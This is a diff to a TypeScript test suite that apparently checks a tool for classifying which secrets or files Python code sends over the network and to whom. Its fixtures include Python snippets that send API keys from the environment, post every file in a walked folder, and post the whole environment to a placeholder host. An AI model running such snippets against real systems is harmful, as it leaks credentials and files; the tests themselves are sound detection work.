@@ -23,6 +23,22 @@ describe('what is sent, where in the request, to whom', () => {
     expect(flow(result, { from: ['env:VENDOR_API_KEY'], position: 'header', destination: 'vendor' })).toBeDefined();
     expect(result.flows().filter((one) => one.to === 'network' && one.position !== 'header')).toEqual([]);
   });
+  it('a variable named after the host belongs to it, a known service only to its own hosts', () => {
+    const to = (name: string, host: string) =>
+      py(`import os, requests\nrequests.get("https://${host}/v?k=" + os.environ["${name}"])`).flows()[0]?.destination;
+    expect(to('WIDGETRY_API_KEY', 'api.widgetry.zz')).toBe('first-party');
+    expect(to('WIDGETRY_API_KEY', 'api.gadgetry.zz')).toBe('other');
+    expect(to('VENDOR_API_KEY', 'vendor.zz')).toBe('other');
+  });
+  it('files of a folder gone through are told from one that was named', () => {
+    const sent = (files: string) => py(`import os, requests\n${files}`).flows()[0]?.from;
+    expect(
+      sent(
+        'for d, _, n in os.walk("w"):\n    for f in n:\n        requests.post("https://h.test", data=open(os.path.join(d, f)))',
+      ),
+    ).toEqual(expect.arrayContaining(['file', 'listing']));
+    expect(sent('requests.post("https://h.test", data=open("w/a"))')).toEqual(['file']);
+  });
   it('the whole environment in a body is not', () => {
     for (const code of [
       'import os, requests\nrequests.post("https://h.test", json=dict(os.environ))',
